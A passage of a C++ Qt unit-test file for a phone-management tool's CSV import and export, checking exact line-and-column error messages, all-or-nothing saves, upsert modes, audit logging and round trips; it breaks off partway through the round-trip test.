// The phone CSV import/export engine on a real database (SQLite, or PostgreSQL with
// PHONEDESK_TEST_BACKEND=postgres): every malformed input gets its exact message naming line and
// column, nothing is half-written, and export -> import gives the same phones.

#include "basesettingsrepository.h"
#include "importworker.h"
#include "phoneexport.h"
#include "phoneimport.h"
#include "phonerepository.h"
#include "siterepository.h"
#include "storage.h"
#include "testsupport.h"
#include "userrepository.h"

#include <QBuffer>
#include <QSignalSpy>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>

using namespace PhoneDesk;
using namespace PhoneDesk::Test;

namespace {
const QByteArray Header =
    "name,category,base_settings,site,hardware_id,user,remote_address,description,line_keys\n";

QStringList texts(const QList<ImportIssue> &issues)
{
    QStringList out;
    for (const ImportIssue &i : issues)
        out.append(i.text());
    return out;
}

// A row for the standard header: a valid managed VVX 450 phone unless told otherwise.
QByteArray row(const QByteArray &name, const QByteArray &mac, const QByteArray &tail = ",,,")
{
    return name + ",managed,VVX 450,Berlin," + mac + "," + tail + "\n";
}

QByteArray manyRows(int count, int firstMac = 0x100)
{
    QByteArray data = Header;
    for (int i = 0; i < count; ++i)
        data += row(
            "Bulk " + QByteArray::number(i),
            "00:04:f2:" +
                QByteArray::number(firstMac + i, 16).rightJustified(6, '0').insert(2, ':').insert(5, ':'));
    return data;
}
} // namespace

class TestPhoneImport final : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void cleanup();

    void malformed_data();
    void malformed();
    void acceptedNotations();
    void unknownColumnsAreReported();
    void modelPicksTheOnlyProfile();
    void userByEmailOrUniqueName();
    void settingColumns();
    void allOrNothingRefusesBadFile();
    void skipInvalidSavesTheRest();
    void upsertByHardwareIdKeepsWhatTheFileDoesNotSay();
    void upsertByName();
    void serialNumberColumn();
    void changedMeanwhileIsAConflict();
    void reportCsv();
    void fixtureFiles_data();
    void fixtureFiles();
    void importNeedsAdministrator();
    void exportImportRoundTrip();
    void exportSelectionToFile();
    void formulaCellsAreNeutralizedAndRoundTrip();
    void invisibleCharactersNameRowAndColumn();
    void fileReadInBlocksGivesTheSamePlan();
    void largeFileIssuesInFileOrder();
    void cancelWhileReading();
    void cancelWhileSaving();
    void workerThreadImportsAndCancels();
    void planRowsKeepEveryField();
    void duplicateTextsInTheFile();

private:
    int phoneCount();
    int auditCount();
    QList<Phone> allPhones();
    ImportPlan prepare(const QByteArray &data, ImportMode mode = ImportMode::CreateOnly);

    Backend m_backend = Backend::Sqlite;
    TestDatabase m_db;
    Storage *s = nullptr;
    Site m_berlin;
    Site m_munich;
    BaseSettings m_vvx450;
    BaseSettings m_vvx150;
    BaseSettings m_generic;
    BaseSettings m_webrtc;
    BaseSettings m_remote;
    User m_anna;
    Phone m_existing;
};

void TestPhoneImport::initTestCase()
{
    const QString backend = qEnvironmentVariable("PHONEDESK_TEST_BACKEND", QStringLiteral("sqlite"));
    m_backend = backend == QLatin1String("postgres") ? Backend::Postgres : Backend::Sqlite;
    if (m_backend == Backend::Postgres && !postgresAvailable()) {
        if (qEnvironmentVariableIntValue("PHONEDESK_REQUIRE_PG"))
            QFAIL("PHONEDESK_REQUIRE_PG is set but no PostgreSQL test cluster is configured "
                  "(PHONEDESK_TEST_PG_PORT)");
        QSKIP("No PostgreSQL test cluster (set PHONEDESK_TEST_PG_PORT; scripts/test starts one)");
    }
}

void TestPhoneImport::init()
{
    QString error;
    m_db = createDatabase(m_backend, &error);
    QVERIFY2(m_db.storage, qPrintable(error));
    s = m_db.storage.get();
    s->setActor(QStringLiteral("tester"), Role::Administrator);

    Site site;
    site.name = QStringLiteral("Berlin");
    site.primarySip = {QStringLiteral("sip.example.com"), 5061, SipTransport::Tls};
    auto berlin = s->sites().create(site);
    QVERIFY2(berlin.ok(), berlin.ok() ? "" : qPrintable(berlin.error().fullText()));
    m_berlin = *berlin;
    site.name = QStringLiteral("München");
    site.mediaModel = MediaModel::Premises;
    m_munich = *s->sites().create(site);
    auto profile = [&](const char *name, const char *model) {
        auto b =
            s->baseSettings().create({0, QString::fromUtf8(name), QString::fromLatin1(model), {}, {}, 1});
        if (!b)
            qFatal("%s", qPrintable(b.error().fullText()));
        return *b;
    };
    m_vvx450 = profile("VVX 450", "poly-vvx-450");
    m_vvx150 = profile("VVX 150", "poly-vvx-150");
    m_generic = profile("Generic", "generic-sip");
    m_webrtc = profile("WebRTC", "webrtc");
    m_remote = profile("Remote", "remote");
    profile("Edge A", "poly-edge-e450");
    profile("Edge B", "poly-edge-e450");
    m_anna =
        *s->users().create({0, QStringLiteral("Anna Keller"), QStringLiteral("anna@example.com"), {}, 1});
    QVERIFY(
        s->users().create({0, QStringLiteral("Max Muster"), QStringLiteral("max1@example.com"), {}, 1}).ok());
    QVERIFY(
        s->users().create({0, QStringLiteral("Max Muster"), QStringLiteral("max2@example.com"), {}, 1}).ok());

    Phone existing;
    existing.name = QStringLiteral("Existing");
    existing.baseSettingsId = m_vvx450.id;
    existing.siteId = m_berlin.id;
    existing.hardwareId = QStringLiteral("0004f2000001");
    existing.lineKeys = {{1, LineKeyType::Line, QStringLiteral("Main"), {}}};
    existing.description = QStringLiteral("kept");
    auto created = s->phones().create(existing);
    QVERIFY2(created.ok(), created.ok() ? "" : qPrintable(created.error().fullText()));
    m_existing = *created;
}

void TestPhoneImport::cleanup()
{
    s = nullptr;
    m_db = TestDatabase();
}

int TestPhoneImport::phoneCount()
{
    return s->phones().count().value();
}

int TestPhoneImport::auditCount()
{
    QSqlQuery q(s->database());
    if (!q.exec(QStringLiteral("SELECT count(*) FROM audit")) || !q.next())
        return -1;
    return q.value(0).toInt();
}

QList<Phone> TestPhoneImport::allPhones()
{
    QList<Phone> out;
    const auto rows = s->phones().list();
    for (const PhoneRow &r : *rows)
        out.append(*s->phones().get(r.id));
    std::sort(out.begin(), out.end(), [](const Phone &a, const Phone &b) { return a.name < b.name; });
    return out;
}

ImportPlan TestPhoneImport::prepare(const QByteArray &data, ImportMode mode)
{
    auto plan = PhoneImporter(*s).prepare(data, mode);
    if (!plan)
        qFatal("prepare failed: %s", qPrintable(plan.error().fullText()));
    return *plan;
}

void TestPhoneImport::malformed_data()
{
    QTest::addColumn<QByteArray>("input");
    QTest::addColumn<QStringList>("issues");
    QTest::addColumn<bool>("fatal");

    QTest::newRow("unbalanced quote") << Header + row("Desk 1", "00:04:f2:00:00:10") +
            "Desk 2,managed,VVX 450,Berlin,00:04:f2:00:00:11,,,\"never closed,\n"
                                      << QStringList {u"Line 3, column 8 (description): a quoted field is "
                                                      u"not closed: the quote that opens it has no "
                                                      u"closing quote."_qs}
                                      << true;
    QTest::newRow("missing required columns")
        << QByteArray("name,hardware_id\nDesk 1,00:04:f2:00:00:10\n")
        << QStringList {u"Line 1: the required column \"category\" is missing."_qs,
                        u"Line 1: the required column \"site\" is missing."_qs,
                        u"Line 1: the file needs a \"base_settings\" or a \"model\" column."_qs}
        << true;
    QTest::newRow("column twice")
        << QByteArray("name,category,base_settings,site,Name\nA,managed,VVX 450,Berlin,B\n")
        << QStringList {u"Line 1, column 5 (name): the column \"name\" appears twice (also column 1)."_qs}
        << true;
    QTest::newRow("unknown setting column")
        << QByteArray(
               "name,category,base_settings,site,setting:media.dscpVideo\nA,managed,VVX 450,Berlin,1\n")
        << QStringList {u"Line 1, column 5 (setting:media.dscpVideo): \"media.dscpVideo\" is not a known "
                        u"setting; see "
                        u"the setting keys in docs/csv-format.md."_qs}
        << true;
    QTest::newRow("duplicate hardware ID in the file")
        << Header + row("Desk 1", "00:04:F2:00:00:10") + row("Desk 2", "0004.f200.0010")
        << QStringList {u"Line 3, column 5 (hardware_id): the hardware ID 00:04:F2:00:00:10 is also used on line 2."_qs}
        << false;
    QTest::newRow("duplicate hardware ID in the database")
        << Header + row("Desk 1", "00-04-F2-00-00-01")
        << QStringList {u"Line 2, column 5 (hardware_id): the hardware ID 00:04:F2:00:00:01 already belongs "
                        u"to phone "
                        u"\"Existing\"."_qs}
        << false;
    QTest::newRow("duplicate name in the file and in the database")
        << Header + row("Desk 1", "00:04:f2:00:00:10") + row("Desk 1", "00:04:f2:00:00:11") +
            row("Existing", "")
        << QStringList {u"Line 3, column 1 (name): the name \"Desk 1\" is also used on line 2."_qs,
                        u"Line 4, column 1 (name): a phone named \"Existing\" already exists; import in an "
                        u"update mode "
                        u"to change it."_qs,
                        u"Line 4, column 5 (hardware_id): Hardware ID: a managed phone needs its MAC address "
                        u"(for "
                        u"example 00:04:F2:AB:CD:EF)."_qs}
        << false;
    const QString notMac =
        u"Hardware ID: \"%1\" is not a MAC address. Use 12 hex digits, e.g. 00:04:F2:AB:CD:EF, "
        u"00-04-f2-ab-cd-ef, 0004.f2ab.cdef or 0004f2abcdef."_qs;
    QTest::newRow("invalid MACs in every notation")
        << Header + row("M1", "00:04:F2:AB:CD") + row("M2", "00-04-f2-ab-cd-eg") +
            row("M3", "0004.f2ab.cde") + row("M4", "0004f2abcdef0") + row("M5", "00:04-f2:ab:cd:ef") +
            row("M6", "01:00:5e:00:00:01")
        << QStringList {u"Line 2, column 5 (hardware_id): "_qs + notMac.arg(u"00:04:F2:AB:CD"_qs),
                        u"Line 3, column 5 (hardware_id): "_qs + notMac.arg(u"00-04-f2-ab-cd-eg"_qs),
                        u"Line 4, column 5 (hardware_id): "_qs + notMac.arg(u"0004.f2ab.cde"_qs),
                        u"Line 5, column 5 (hardware_id): "_qs + notMac.arg(u"0004f2abcdef0"_qs),
                        u"Line 6, column 5 (hardware_id): "_qs + notMac.arg(u"00:04-f2:ab:cd:ef"_qs),
                        u"Line 7, column 5 (hardware_id): Hardware ID: 01:00:5E:00:00:01 is a broadcast or "
                        u"multicast "
                        u"address, not a phone's MAC."_qs}
        << false;
    QTest::newRow("unknown site, base settings, category, user")
        << Header + "A,managed,VVX 450,Paris,00:04:f2:00:00:10,,,,\n" +
            "B,managed,VVX 999,Berlin,00:04:f2:00:00:11,,,,\n" +
            "C,desk,VVX 450,Berlin,00:04:f2:00:00:12,,,,\n" +
            row("D", "00:04:f2:00:00:13", "nobody@example.com,,,") +
            row("E", "00:04:f2:00:00:14", "Max Muster,,,")
        << QStringList {u"Line 2, column 4 (site): there is no site named \"Paris\"."_qs,
                        u"Line 3, column 3 (base_settings): there are no base settings named \"VVX 999\"."_qs,
                        u"Line 4, column 2 (category): \"desk\" is not a category; use managed, unmanaged, "
                        u"webrtc or "
                        u"remote."_qs,
                        u"Line 5, column 6 (user): there is no user with the email address or name "
                        u"\"nobody@example.com\"."_qs,
                        u"Line 6, column 6 (user): several users are called \"Max Muster\"; use the email address."_qs}
        << false;
    QTest::newRow("unknown and ambiguous model")
        << QByteArray("name,category,model,site,hardware_id\n"
                      "A,managed,Poly VVX 9000,Berlin,00:04:f2:00:00:10\n"
                      "B,managed,poly-edge-e450,Berlin,00:04:f2:00:00:11\n"
                      "C,managed,yealink-t54w,Berlin,00:04:f2:00:00:12\n")
        << QStringList {u"Line 2, column 3 (model): \"Poly VVX 9000\" is not a known phone model (use a "
                        u"model id such "
                        u"as poly-vvx-450, or its name such as Poly VVX 450)."_qs,
                        u"Line 3, column 3 (model): the Poly Edge E450 has 2 base settings profiles (Edge A, "
                        u"Edge B); "
                        u"name one in the base_settings column."_qs,
                        u"Line 4, column 3 (model): there are no base settings for the Yealink T54W; create "
                        u"a profile "
                        u"first, or name one in the base_settings column."_qs}
        << false;
    QTest::newRow("too many line keys")
        << Header + "A,managed,VVX 150,Berlin,00:04:f2:00:00:10,,,,1=line;2=line;3=blf:1003 Bob\n"
        << QStringList {u"Line 2, column 9 (line_keys): Line keys: the Poly VVX 150 has 2 line keys, 3 are configured."_qs,
                        u"Line 2, column 9 (line_keys): Line key 3: position must be between 1 and 2 on the "
                        u"Poly VVX "
                        u"150."_qs}
        << false;
    QTest::newRow("bad line-key notation")
        << Header + "A,managed,VVX 450,Berlin,00:04:f2:00:00:10,,,,1=line;2=bfl:1002\n"
        << QStringList {u"Line 2, column 9 (line_keys): entry 2 \"2=bfl:1002\": \"bfl\" is not a key type; "
                        u"use line, "
                        u"speed, blf or none."_qs}
        << false;
    QTest::newRow("category rules")
        << Header + "W,webrtc,WebRTC,Berlin,,,,,\n" + "R,remote,Remote,Berlin,,,,,\n" +
            "U,unmanaged,VVX 450,Berlin,,,,,\n"
        << QStringList {u"Line 2, column 6 (user): User: a WebRTC phone belongs to a user; choose one."_qs,
                        u"Line 3, column 7 (remote_address): Remote address is required: an E.164 number "
                        u"(+15551234567) or a SIP address."_qs,
                        u"Line 4, column 3 (base_settings): Base settings: a Poly VVX 450 profile is not "
                        u"for Unmanaged phones."_qs}
        << false;
    QTest::newRow("wrong number of fields")
        << Header + "A,managed,VVX 450,Berlin,00:04:f2:00:00:10\n" +
            "B,managed,VVX 450,Berlin,00:04:f2:00:00:11,,,,,x\n"
        << QStringList {u"Line 2: the row has 5 fields but the header has 9 columns."_qs,
                        u"Line 3: the row has 10 fields but the header has 9 columns."_qs}
        << false;
    QTest::newRow("binary file")
        << QByteArray("\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0", 20)
        << QStringList {u"Line 1, column 1: the file contains binary data (NUL bytes), not CSV "
                        u"text."_qs}
        << true;
    QTest::newRow("empty file")
        << QByteArray()
        << QStringList {u"Line 1: the file is empty; the first line must be a header row naming "
                        u"the columns, for example name,category,site,base_settings,hardware_id."_qs}
        << true;
    QTest::newRow("only blank lines")
        << QByteArray("\r\n\r\n")
        << QStringList {u"Line 1: the file is empty; the first line must be a header row "
                        u"naming the columns, for example "
                        u"name,category,site,base_settings,hardware_id."_qs}
        << true;
    QTest::newRow("header only") << Header
                                 << QStringList {u"Line 1: the file has a header row but no phones."_qs}
                                 << true;
    QByteArray wide = Header + row("A", "00:04:f2:00:00:10");
    wide.append(QByteArray(999999, ','));
    wide.append('\n');
    QTest::newRow("a line with 1,000,000 columns")
        << wide
        << QStringList {u"Line 3, column 1025: the row has more than 1024 columns; a phone row has far fewer."_qs}
        << true;
}

void TestPhoneImport::malformed()
{
    QFETCH(QByteArray, input);
    QFETCH(QStringList, issues);
    QFETCH(bool, fatal);
    const int phonesBefore = phoneCount();
    const int auditBefore = auditCount();
    const ImportPlan plan = prepare(input);
    QCOMPARE(texts(plan.issues), issues);
    QCOMPARE(plan.fatal, fatal);
    // Neither mode saves anything from a fatal file; all-or-nothing saves nothing from any bad file.
    auto all = PhoneImporter(*s).commit(plan, false);
    QVERIFY(!all.ok());
    QCOMPARE(all.error().code, Error::Code::Validation);
    if (fatal)
        QVERIFY(!PhoneImporter(*s).commit(plan, true).ok());
    QCOMPARE(phoneCount(), phonesBefore);
    QCOMPARE(auditCount(), auditBefore);
}

void TestPhoneImport::acceptedNotations()
{
    // BOM, semicolons, CRLF, headers in other spellings, quoted newlines/commas/quotes, every MAC notation.
    const QByteArray data =
        "\xEF\xBB\xBFName;Category;Base Settings;SITE;MAC;Description;Line-Keys\r\n"
        "\"Empfang; EG\";managed;VVX 450;berlin;00-04-F2-00-00-10;\"Line one\r\nsays \"\"hi\"\", "
        "ok\";\"1=line Main;2=blf:1002 Alice Smith\"\r\n"
        "Zoë 東京;managed;VVX 450;München;0004.f200.0011;;\r\n"
        "C;managed;VVX 450;Berlin;0004F2000012;;\r\n"
        "D;managed;VVX 450;Berlin;00:04:f2:00:00:13;;\r\n";
    const ImportPlan plan = prepare(data);
    QCOMPARE(texts(plan.issues).join(u'|'), QString());
    QCOMPARE(plan.delimiter, ';');
    auto result = PhoneImporter(*s).commit(plan, false, QStringLiteral("phones.csv"));
    QVERIFY2(result.ok(), result.ok() ? "" : qPrintable(result.error().fullText()));
    QCOMPARE(result->created, 4);
    auto desk = s->phones().findByName(QStringLiteral("Empfang; EG"));
    QVERIFY(desk->has_value());
    const Phone p = **desk;
    QCOMPARE(p.hardwareId, QStringLiteral("0004f2000010"));
    QCOMPARE(p.description, QStringLiteral("Line one\nsays \"hi\", ok"));
    QCOMPARE(p.siteId, m_berlin.id); // case-insensitive site name
    QCOMPARE(p.lineKeys,
             (QList<LineKey> {{1, LineKeyType::Line, QStringLiteral("Main"), {}},
                              {2, LineKeyType::Blf, QStringLiteral("Alice Smith"), QStringLiteral("1002")}}));
    auto zoe = s->phones().findByName(QStringLiteral("Zoë 東京"));
    QVERIFY(zoe->has_value());
    QCOMPARE((*zoe)->siteId, m_munich.id);
    QCOMPARE((*s->phones().findByHardwareId(QStringLiteral("0004f2000012")))->name, QStringLiteral("C"));
}

void TestPhoneImport::unknownColumnsAreReported()
{
    const ImportPlan plan = prepare("name,category,base_settings,site,hardware_id,colour\n"
                                    "A,managed,VVX 450,Berlin,00:04:f2:00:00:10,red\n");
    QCOMPARE(texts(plan.issues), QStringList());
    QCOMPARE(texts(plan.warnings),
             QStringList {u"Line 1, column 6 (colour): unknown column \"colour\"; it is ignored."_qs});
    QCOMPARE(plan.columns.size(), 6);
    QCOMPARE(plan.columns[5].field, QString());
    QCOMPARE(plan.columns[4].field, QStringLiteral("hardware_id"));
}

void TestPhoneImport::modelPicksTheOnlyProfile()
{
    const ImportPlan plan = prepare("name,category,model,site,hardware_id\n"
                                    "A,managed,poly-vvx-150,Berlin,00:04:f2:00:00:10\n"
                                    "B,managed,Poly VVX 450,Berlin,00:04:f2:00:00:11\n");
    QCOMPARE(texts(plan.issues), QStringList());
    QCOMPARE(plan.rows.size(), 2);
    QCOMPARE(plan.rows[0].phone.baseSettingsId, m_vvx150.id);
    QCOMPARE(plan.rows[1].phone.baseSettingsId, m_vvx450.id);

    const ImportPlan mismatch = prepare("name,category,model,base_settings,site,hardware_id\n"
                                        "A,managed,poly-vvx-150,VVX 450,Berlin,00:04:f2:00:00:10\n");
    QCOMPARE(texts(mismatch.issues),
             QStringList {
                 u"Line 2, column 3 (model): the base settings \"VVX 450\" are for the Poly VVX 450, not the "
                 u"Poly VVX 150."_qs});
}

void TestPhoneImport::userByEmailOrUniqueName()
{
    const ImportPlan plan = prepare(
        Header + "W1,webrtc,WebRTC,Berlin,soft1.example.com,ANNA@example.com,,,\n" +
        "W2,webrtc,WebRTC,Berlin,,Anna Keller,,,\n" + "W3,webrtc,WebRTC,Berlin,,max2@example.com,,,\n");
    QCOMPARE(texts(plan.issues), QStringList());
    QCOMPARE(plan.rows[0].phone.userId, m_anna.id);
    QCOMPARE(plan.rows[1].phone.userId, m_anna.id);
    QVERIFY(plan.rows[2].phone.userId != 0 && plan.rows[2].phone.userId != m_anna.id);
}

void TestPhoneImport::settingColumns()
{
    const ImportPlan plan = prepare("name,category,base_settings,site,hardware_id,setting:media.dscpRtp,"
                                    "Setting:codecs.preferred\n"
                                    "A,managed,VVX 450,Berlin,00:04:f2:00:00:10,40,audio/G722|audio/PCMU\n"
                                    "B,managed,VVX 450,Berlin,00:04:f2:00:00:11,99,\n"
                                    "C,managed,VVX 450,Berlin,00:04:f2:00:00:12,abc,\n");
    QCOMPARE(
        texts(plan.issues),
        (QStringList {
            u"Line 3, column 6 (setting:media.dscpRtp): DSCP for RTP must be between 0 and 63 (got 99)."_qs,
            u"Line 4, column 6 (setting:media.dscpRtp): \"abc\" is not a valid value for DSCP for RTP."_qs}));
    QCOMPARE(plan.rows.size(), 1);
    QCOMPARE(plan.rows[0].phone.overrides.value(QStringLiteral("media.dscpRtp")).toInt(), 40);
    QCOMPARE(plan.rows[0].phone.overrides.value(QStringLiteral("codecs.preferred")).toStringList(),
             (QStringList {u"audio/G722"_qs, u"audio/PCMU"_qs}));
}

void TestPhoneImport::allOrNothingRefusesBadFile()
{
    const int before = phoneCount();
    const int auditBefore = auditCount();
    const ImportPlan plan = prepare(Header + row("A", "00:04:f2:00:00:10") + row("B", "zz"));
    QCOMPARE(plan.rows.size(), 1);
    QCOMPARE(plan.rejectedRows(), 1);
    auto r = PhoneImporter(*s).commit(plan, false);
    QVERIFY(!r.ok());
    QCOMPARE(r.error().message, u"1 of 2 rows have errors; nothing was imported."_qs);
    QCOMPARE(phoneCount(), before);
    QCOMPARE(auditCount(), auditBefore);
}

void TestPhoneImport::skipInvalidSavesTheRest()
{
    const int before = phoneCount();
    const ImportPlan plan =
        prepare(Header + row("A", "00:04:f2:00:00:10") + row("B", "zz") + row("C", "00:04:f2:00:00:12"));
    auto r = PhoneImporter(*s).commit(plan, true, QStringLiteral("/tmp/x/phones.csv"));
    QVERIFY2(r.ok(), r.ok() ? "" : qPrintable(r.error().fullText()));
    QCOMPARE(r->created, 2);
    QCOMPARE(r->skipped, 1);
    QCOMPARE(phoneCount(), before + 2);
    QVERIFY(!s->phones().findByName(QStringLiteral("B"))->has_value());
    // One audit entry per phone and one for the import as a whole.
    QSqlQuery q(s->database());
    QVERIFY(q.exec(QStringLiteral(
        "SELECT entity_name, details FROM audit WHERE action = 'phone.import' AND entity_id = 0")));
    QVERIFY(q.next());
    QCOMPARE(q.value(0).toString(), QStringLiteral("phones.csv"));
    QCOMPARE(q.value(1).toString(), QStringLiteral("2 created, 0 updated, 1 rows skipped"));
}

void TestPhoneImport::upsertByHardwareIdKeepsWhatTheFileDoesNotSay()
{
    const ImportPlan plan = prepare("name,category,base_settings,site,hardware_id\n"
                                    "Renamed,managed,VVX 450,München,0004F2000001\n"
                                    "New,managed,VVX 450,Berlin,00:04:f2:00:00:20\n",
                                    ImportMode::UpsertByHardwareId);
    QCOMPARE(texts(plan.issues), QStringList());
    QCOMPARE(plan.updates(), 1);
    QCOMPARE(plan.creates(), 1);
    auto r = PhoneImporter(*s).commit(plan, false);
    QVERIFY2(r.ok(), r.ok() ? "" : qPrintable(r.error().fullText()));
    const Phone updated = *s->phones().get(m_existing.id);
    QCOMPARE(updated.name, QStringLiteral("Renamed"));
    QCOMPARE(updated.siteId, m_munich.id);
    QCOMPARE(updated.description, QStringLiteral("kept"));
    QCOMPARE(updated.lineKeys, m_existing.lineKeys);
    QCOMPARE(updated.version, m_existing.version + 1);

    // Create-only refuses the same file; upsert by hardware ID needs the column.
    const ImportPlan noColumn = prepare("name,category,base_settings,site\nA,managed,VVX 450,Berlin\n",
                                        ImportMode::UpsertByHardwareId);
    QCOMPARE(
        texts(noColumn.issues),
        QStringList {
            u"Line 1: the required column \"hardware_id\" is missing (rows are matched by hardware ID)."_qs});
}

void TestPhoneImport::serialNumberColumn()
{
    // "Serial Number" as a spreadsheet writes it; checked like the editor checks it.
    const ImportPlan plan = prepare("name,category,base_settings,site,hardware_id,Serial Number\n"
                                    "Desk 1,managed,VVX 450,Berlin,00:04:f2:00:00:41, 8012345678901234 \n"
                                    "Desk 2,managed,VVX 450,Berlin,00:04:f2:00:00:42,SN 42\n");
    QCOMPARE(
        texts(plan.issues),
        QStringList {u"Line 3, column 6 (serial_number): Serial number: \"SN 42\" is not a serial number. "
                     "Use the one on the phone's label: up to 64 letters, digits, '-', '.', '_' or '/'."_qs});
    auto r = PhoneImporter(*s).commit(plan, true);
    QVERIFY2(r.ok(), r.ok() ? "" : qPrintable(r.error().fullText()));
    const Phone desk = *s->phones().findByName(QStringLiteral("Desk 1")).value();
    QCOMPARE(desk.serialNumber, QStringLiteral("8012345678901234"));
    // Exported and read back; an update without the column keeps it.
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("out.csv"));
    QVERIFY(PhoneExport::exportToFile(*s, {desk.id}, path).ok());
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QString exported = QString::fromUtf8(file.readAll());
    QVERIFY2(exported.contains(QLatin1String("network_address,serial_number,description")),
             qPrintable(exported));
    QVERIFY(exported.contains(QLatin1String(",8012345678901234,")));
    const ImportPlan update = prepare("name,category,base_settings,site,hardware_id\n"
                                      "Desk 1 renamed,managed,VVX 450,Berlin,00:04:f2:00:00:41\n",
                                      ImportMode::UpsertByHardwareId);
    QVERIFY(PhoneImporter(*s).commit(update, false).ok());
    QCOMPARE(s->phones().get(desk.id)->serialNumber, QStringLiteral("8012345678901234"));
}

void TestPhoneImport::upsertByName()
{
    const ImportPlan plan =
        prepare(Header + row("Existing", "00:04:f2:00:00:30", ",,new text,") + row("Other", "0004f2000001"),
                ImportMode::UpsertByName);
    QCOMPARE(
        texts(plan.issues),
        QStringList {
            u"Line 3, column 5 (hardware_id): the hardware ID 00:04:F2:00:00:01 already belongs to phone "
            u"\"Existing\"."_qs});
    auto r = PhoneImporter(*s).commit(plan, true);
    QVERIFY(r.ok());
    QCOMPARE(r->updated, 1);
    const Phone updated = *s->phones().get(m_existing.id);
    QCOMPARE(updated.hardwareId, QStringLiteral("0004f2000030"));
    QCOMPARE(updated.description, QStringLiteral("new text"));
    QCOMPARE(updated.lineKeys, QList<LineKey>()); // the file says: no line keys
}

void TestPhoneImport::changedMeanwhileIsAConflict()
{
    const ImportPlan plan = prepare(Header + row("Existing", "00:04:f2:00:00:01", ",,from file,") +
                                        row("Fresh", "00:04:f2:00:00:40"),
                                    ImportMode::UpsertByName);
    QCOMPARE(texts(plan.issues), QStringList());
    // Another console edits the phone between reading the file and saving it.
    Phone other = *s->phones().get(m_existing.id);
    other.description = QStringLiteral("edited elsewhere");
    QVERIFY(s->phones().update(other).ok());
    const int before = phoneCount();
    auto r = PhoneImporter(*s).commit(plan, false);
    QVERIFY(!r.ok());
    QCOMPARE(r.error().code, Error::Code::Conflict);
    QCOMPARE(s->phones().get(m_existing.id)->description, QStringLiteral("edited elsewhere"));
    QCOMPARE(phoneCount(), before); // "Fresh" was not created either
}

void TestPhoneImport::reportCsv()
{
    const ImportPlan plan =
        prepare(Header + row("A", "zz") + "B,managed,VVX 450,Paris,00:04:f2:00:00:10,,,\"x, \"\"y\"\"\",\n");
    QCOMPARE(
        PhoneImporter::reportCsv(plan.issues),
        QByteArray("line,column,column_name,message\r\n"
                   "2,5,hardware_id,\"Hardware ID: \"\"zz\"\" is not a MAC address. Use 12 hex digits, e.g. "
                   "00:04:F2:AB:CD:EF, 00-04-f2-ab-cd-ef, 0004.f2ab.cdef or 0004f2abcdef.\"\r\n"
                   "3,4,site,\"there is no site named \"\"Paris\"\".\"\r\n"));
    // The report is itself valid CSV.
    const Csv::Document doc = Csv::read(PhoneImporter::reportCsv(plan.issues));
    QVERIFY(!doc.error);
    QCOMPARE(doc.records.size(), 3);
}

void TestPhoneImport::fixtureFiles_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QStringList>("names");
    QTest::newRow("every category (docs/csv-format.md example)")
        << QStringLiteral("all-categories.csv")
        << QStringList {u"Anna softphone"_qs, u"Home office"_qs, u"Reception"_qs, u"Warehouse"_qs};
    QTest::newRow("spreadsheet: semicolons, BOM, CRLF, other header spellings")
        << QStringLiteral("excel-semicolon-bom.csv") << QStringList {u"Empfang"_qs, u"Kü\"che"_qs};
}

void TestPhoneImport::fixtureFiles()
{
    QFETCH(QString, file);
    QFETCH(QStringList, names);
    auto plan = PhoneImporter(*s).prepareFile(QStringLiteral(PHONEDESK_TEST_DATA_DIR "/csv/") + file,
                                              ImportMode::CreateOnly);
    QVERIFY(plan.ok());
    QCOMPARE(texts(plan->issues), QStringList());
    auto r = PhoneImporter(*s).commit(*plan, false, file);
    QVERIFY2(r.ok(), r.ok() ? "" : qPrintable(r.error().fullText()));
    QStringList imported;
    for (const ImportRow &row : plan->rows)
        imported.append(row.phone.name);
    imported.sort();
    QCOMPARE(imported, names);
    for (const QString &name : names)
        QVERIFY((*s->phones().findByName(name)).has_value());
}

void TestPhoneImport::importNeedsAdministrator()
{
    const ImportPlan plan = prepare(Header + row("A", "00:04:f2:00:00:10"));
    QCOMPARE(texts(plan.issues), QStringList());
    s->setActor(QStringLiteral("editor"), Role::Editor);
    auto r = PhoneImporter(*s).commit(plan, false);
    QVERIFY(!r.ok());
    QCOMPARE(r.error().code, Error::Code::Permission);
    QCOMPARE(phoneCount(), 1);
}

void TestPhoneImport::exportImportRoundTrip()
{
    // Every category, awkward text everywhere, overrides and line keys.
    QList<Phone> phones;
    Phone managed;
    managed.name = QStringLiteral("Empfang, EG \"Haupt\"");
    managed.baseSettingsId = m_vvx450.id;
    managed.siteId = m_berlin.id;
    managed.hardwareId = QStringLiteral("0004f2aabb01");
    managed.userId = m_anna.id;
    managed.networkAddress = QStringLiteral("10.0.0.5:5060");
    managed.description = QStringLiteral("Two\nlines, with \"quotes\"; and ; semicolons\ttab");
    managed.lineKeys = {
        {1, LineKeyType::Line, QStringLiteral("Main line"), {}},
        {2, LineKeyType::Blf, QStringLiteral("Alice ; Smith \\ x"), QStringLiteral("1002")},
        {3, LineKeyType::SpeedDial, QStringLiteral("Front desk "), QStringLiteral("+15551234567")},
        {5, LineKeyType::Unassigned, {}, {}}};
    managed.overrides = {
        {QStringLiteral("media.dscpRtp"), 40},
        {QStringLiteral("codecs.preferred"), QStringList {u"audio/G722"_qs, u"audio/PCMU"_qs}},
        {QStringLiteral("general.dynamicReload"), false}};
    phones.append(managed);
    Phone unmanaged;
    unmanaged.name = QStringLiteral("Zoë 東京 Küche");
    unmanaged.category = PhoneCategory::Unmanaged;
    unmanaged.baseSettingsId = m_generic.id;
    unmanaged.siteId = m_munich.id;
    phones.append(unmanaged);
    Phone webrtc;
    webrtc.name = QStringLiteral("Anna's softphone");
    webrtc.category = PhoneCategory::WebRtc;
    webrtc.baseSettingsId = m_webrtc.id;
    webrtc.siteId = m_berlin.id;
    webrtc.userId = m_anna.id;
    webrtc.hardwareId = QStringLiteral("soft-12.example.com");
    phones.append(webrtc);
    Phone remote;
    remote.name = QStringLiteral(" Remote  home ");
    remote.category = PhoneCategory::Remote;
    remote.baseSettingsId = m_remote.id;
    remote.siteId = m_berlin.id;
    remote.remoteAddress = QStringLiteral("+4930123456");
    phones.append(remote);
    Phone sipRemote = remote;
    sipRemote.name = QStringLiteral("Remote SIP");
